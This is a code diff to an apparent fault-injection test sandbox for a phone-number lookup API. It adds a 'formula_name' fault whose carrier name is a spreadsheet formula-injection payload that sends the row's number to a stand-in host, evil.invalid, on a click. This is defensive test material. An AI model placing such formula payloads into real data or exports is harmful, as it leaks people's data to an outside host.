@@ -66,6 +66,8 @@ BOMB_BYTES = 1 << 30
 TRICKLE_SECONDS = 1.0
 DEEP_NESTING = 100_000
 _BAD_UTF8_NAME = b"Telef\xf3nica"  # Latin-1, as a misconfigured upstream sends it
+#: A hostile network name (issue 24, row 11): a click in a spreadsheet sends the row's number away.
+FORMULA_NAME = '=HYPERLINK("http://evil.invalid/?"&A2,"Vodafone")'
 _SURROGATE = "\ud83d"  # the first half of an emoji, cut upstream; json.dumps escapes it
 
 
@@ -90,9 +92,9 @@ class Faults:
     ``html_200``, ``quota``. Charged (the API answered, the answer is broken on its way back):
     ``temporary``, ``wrong_to``, ``errors_beside_results``, ``bom``, ``bad_utf8``,
     ``surrogate``, ``deep_nesting``, ``truncated``, ``missing_to``, ``nan_field``,
-    ``echo_token``, ``slow``, ``trickle``, ``endless``,
-    ``gzip_bomb``, ``huge``. ``unreachable`` closes the listening socket: connections are
-    refused (nothing reaches the API) until it is cleared with :meth:`Sandbox.configure`.
+    ``echo_token``, ``slow``, ``trickle``, ``endless``, ``gzip_bomb``, ``huge``,
+    ``formula_name``. ``unreachable`` closes the listening socket: connections are refused
+    (nothing reaches the API) until it is cleared with :meth:`Sandbox.configure`.
 
     Example:
         >>> Faults(error_503=0.1, retry_after=2.0).error_503
@@ -133,6 +135,9 @@ class Faults:
     retry_after_http_date: bool = _param(False, "send rate_429's Retry-After as an HTTP-date")
     slow_seconds: float = _param(2.0, "delay of a slow answer, seconds")
     unreachable: bool = _param(False, "refuse connections: the listening socket is closed")
+    # The answer (charged), continued.
+    formula_name: float = _p("a network name that is a spreadsheet formula, =HYPERLINK(...) "
+                             "sending the row's number away on a click (charged)")
 
     def __post_init__(self) -> None:
         for f in dataclasses.fields(self):
@@ -178,6 +183,7 @@ _ORDER = (
     "endless",
     "gzip_bomb",
     "huge",
+    "formula_name",
 )
 #: Faults that replace the answer before the API is reached, in precedence order.
 _EARLY = ("drop", "error_500", "error_503", "rate_429", "html_200")
@@ -406,6 +412,8 @@ def _answer_body(args: tuple[Any, ...], fired: set[str], authorization: str = ""
     if "echo_token" in fired:  # a debugging gateway: into an extra field and a network name
         result["gateway"] = {"request_headers": {"Authorization": authorization}}
         _rename_network(result, f"Vodafone [{authorization}]")
+    if "formula_name" in fired:
+        _rename_network(result, FORMULA_NAME)
     payload: dict[str, Any] = {"results": [result]}
     if "errors_beside_results" in fired:
         payload["errors"] = {}
